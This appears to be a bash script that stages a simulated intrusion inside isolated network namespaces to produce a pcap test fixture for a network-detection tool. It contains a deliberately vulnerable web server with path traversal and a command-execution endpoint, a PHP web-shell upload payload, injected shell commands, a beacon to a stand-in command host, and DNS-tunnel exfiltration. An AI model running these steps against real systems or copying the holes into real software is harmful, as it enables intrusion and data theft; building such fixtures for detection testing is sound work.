#!/usr/bin/env bash
# Makes tests/data/intrusion.pcap: a small intrusion between real servers and clients in network namespaces of its own.
#   sudo tests/data/make_intrusion.sh [OUT.pcap]          about 90 seconds; needs iproute2 tcpdump openssh-server
#                                                         openssh-client dnsmasq bind9-dnsutils curl netcat-openbsd python3
# The story: 203.0.113.66 scans the outer network, guesses at SSH, finds a path traversal and a command injection on the
# web server 192.0.2.10, places a script there and calls it; the server then calls 198.51.100.7 every two seconds; from it
# the inner host 10.1.0.20 is entered by SSH with a key that was found; data goes out through DNS names under tun.example.
# Beside it, ordinary traffic: a workstation reads pages and asks for names. Nothing leaves the namespaces.
set -euo pipefail
out=$(readlink -f "${1:-$(dirname "$0")/intrusion.pcap}")
work=$(mktemp -d)
chmod 755 "$work"
names=(whodun-wire whodun-out whodun-dmz whodun-in)
pids=()
cleanup() {
  for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done
  for n in "${names[@]}"; do
    ip netns pids "$n" 2>/dev/null | xargs -r kill 2>/dev/null || true
    ip netns del "$n" 2>/dev/null || true
    rm -rf "/etc/netns/$n"
  done
  rm -rf "$work"
}
trap cleanup EXIT

for n in "${names[@]}"; do
  ip netns add "$n"
  # Names are asked of our own server only.
  mkdir -p "/etc/netns/$n"
  echo 'nameserver 192.0.2.25' >"/etc/netns/$n/resolv.conf"
done
wire="ip netns exec whodun-wire"
$wire ip link add br0 type bridge ageing_time 0   # a hub: the sensor sees every frame
$wire ip link set br0 up
join() {  # join NAMESPACE ADDRESS…: a host on the hub, with everything else on link
  local ns=$1 port=p-${1#whodun-}
  shift
  ip link add e0 netns "$ns" type veth peer name "$port" netns whodun-wire
  $wire ip link set "$port" master br0 up
  ip netns exec "$ns" ip link set lo up
  ip netns exec "$ns" ip link set e0 up
  for a in "$@"; do ip netns exec "$ns" ip addr add "$a/32" dev e0; done
  ip netns exec "$ns" ip route add default dev e0 src "$1"
}
join whodun-out 203.0.113.66 198.51.100.7 203.0.113.80
join whodun-dmz 192.0.2.10 192.0.2.25
join whodun-in 10.1.0.20 10.1.0.33
O="ip netns exec whodun-out"; D="ip netns exec whodun-dmz"; I="ip netns exec whodun-in"

# --- servers
cat >"$work/web.py" <<'P'
import http.server, os, subprocess, sys, urllib.parse
root, address, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def reply(self, code, body, kind="text/html"):
        self.send_response(code); self.send_header("Content-Type", kind); self.send_header("Content-Length", str(len(body)))
        self.end_headers(); self.wfile.write(body)
    def do_GET(self):
        u = urllib.parse.urlparse(self.path); q = urllib.parse.parse_qs(u.query)
        if u.path == "/view" and "page" in q:                       # reads any file: the hole
            try: self.reply(200, open(os.path.join(root, q["page"][0]), "rb").read(), "text/plain")
            except OSError: self.reply(404, b"no such page\n")
        elif u.path == "/uploads/shell.php" and "c" in q:            # the placed script
            self.reply(200, subprocess.run(q["c"][0], shell=True, capture_output=True).stdout, "text/plain")
        elif u.path in ("/", "/index.html", "/news.html"): self.reply(200, b"<html><body>" + b"<p>Bulletin</p>" * 60 + b"</body></html>\n")
        else: self.reply(404, b"not found\n")
    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        if self.path == "/upload.php": self.reply(200, b"stored\n")
        elif self.path == "/api/check": self.reply(200, b'{"next":2}\n', "application/json")
        else: self.reply(404, b"not found\n")
    def log_message(self, *a): pass
http.server.HTTPServer.server_bind = __import__("socketserver").TCPServer.server_bind
http.server.ThreadingHTTPServer.server_name = address; http.server.ThreadingHTTPServer.server_port = port
http.server.ThreadingHTTPServer((address, port), Handler).serve_forever()
P
mkdir -p "$work/www"; printf 'news' >"$work/www/news"
printf 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww:x:33:33::/var/www:/bin/sh\n' >"$work/passwd"
$D python3 "$work/web.py" "$work/www" 192.0.2.10 80 & pids+=($!)
$O python3 "$work/web.py" "$work/www" 198.51.100.7 8080 & pids+=($!)
$O python3 "$work/web.py" "$work/www" 203.0.113.80 80 & pids+=($!)
mkdir -p /run/sshd
ssh-keygen -q -t ed25519 -N '' -f "$work/host"; ssh-keygen -q -t ed25519 -N '' -f "$work/good"
for i in 1 2 3 4 5; do ssh-keygen -q -t ed25519 -N '' -f "$work/bad$i"; done
cp "$work/good.pub" "$work/keys"; chmod 600 "$work/keys"
sshd() { "$@" /usr/sbin/sshd -D -f /dev/null -o HostKey="$work/host" -o AuthorizedKeysFile="$work/keys" -o StrictModes=no -o UsePAM=no -o PermitRootLogin=yes -o PasswordAuthentication=no -o MaxStartups=100 -o PidFile=none >/dev/null 2>&1 & pids+=($!); }
sshd $D; sshd $I
$D dnsmasq -k --no-resolv --no-hosts --listen-address=192.0.2.25 --bind-interfaces --address=/www.example/203.0.113.80 --txt-record=ok.tun.example,"$(head -c 90 /dev/urandom | base64 -w0)" --address=/tun.example/198.51.100.7 --pid-file="$work/dnsmasq.pid" -u root >/dev/null 2>&1 & pids+=($!)
sleep 2

$wire tcpdump -i br0 -s 0 -U -w "$work/raw.pcap" 2>/dev/null & sensor=$!
sleep 1
SSH="ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o IdentitiesOnly=yes -o ConnectTimeout=5 -o LogLevel=ERROR"

# --- ordinary life, all along
( for i in $(seq 1 14); do
    $I curl -s -o /dev/null --interface 10.1.0.33 -A "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" -H 'Accept-Language: en-GB' http://203.0.113.80/news.html || true
    $I dig +short +tries=1 +time=1 -b 10.1.0.33 @192.0.2.25 www.example >/dev/null 2>&1 || true
    sleep $((2 + i % 5)); done ) & life=$!

# --- door-rattling
for port in 21 22 23 25 53 80 110 135 139 143 443 445 993 1433 1521 2049 3306 3389 5432 5900 6379 8080 8443 9200 11211 27017; do
  $O nc -n -z -w1 -s 203.0.113.66 192.0.2.10 $port >/dev/null 2>&1 || true; $O nc -n -z -w1 -s 203.0.113.66 192.0.2.25 $port >/dev/null 2>&1 || true; done
# --- assault: logins refused
for round in 1 2 3; do for i in 1 2 3 4 5; do $O $SSH -b 203.0.113.66 -i "$work/bad$i" root@192.0.2.10 true >/dev/null 2>&1 || true; done; done
# --- assault and entry: the web server
W="$O curl -s --interface 203.0.113.66 -A python-requests/2.31"
for p in admin login.php .git/config .env backup.zip phpmyadmin wp-login.php; do $W -o /dev/null "http://192.0.2.10/$p"; done
$W -o /dev/null "http://192.0.2.10/view?page=1%27%20OR%20%271%27=%271"
$W -o /dev/null --path-as-is "http://192.0.2.10/view?page=../../../../../../../../../..$work/passwd"
$W -o /dev/null --data-binary '<?php system($_GET["c"]); ?>' http://192.0.2.10/upload.php
for c in id 'uname -a' 'cat /proc/version' 'ls -la /tmp | head -3'; do $W -o /dev/null -G --data-urlencode "c=;$c" http://192.0.2.10/uploads/shell.php; done
# --- foothold: the server calls home
( for i in $(seq 1 14); do $D curl -s -o /dev/null --interface 192.0.2.10 -A "" -d '{"id":"a7","s":0}' http://198.51.100.7:8080/api/check || true; sleep 2; done ) & home=$!
# --- spread: from the server to an inner host
for i in 1 2; do $D $SSH -b 192.0.2.10 -i "$work/good" root@10.1.0.20 'hostname; cat /etc/hostname' >/dev/null 2>&1 || true; sleep 1; done
# --- theft: through names
for i in $(seq 1 60); do
  part=$(head -c 30 /dev/urandom | base32 -w0 | tr -d = | tr A-Z a-z)
  $I dig +short +tries=1 +time=1 -b 10.1.0.20 @192.0.2.25 TXT "$part.$i.tun.example" >/dev/null 2>&1 || true
done
wait $home $life 2>/dev/null || true
sleep 1
kill -INT $sensor; wait $sensor 2>/dev/null || true
cp "$work/raw.pcap" "$out"
echo "wrote $out: $(stat -c %s "$out") bytes"
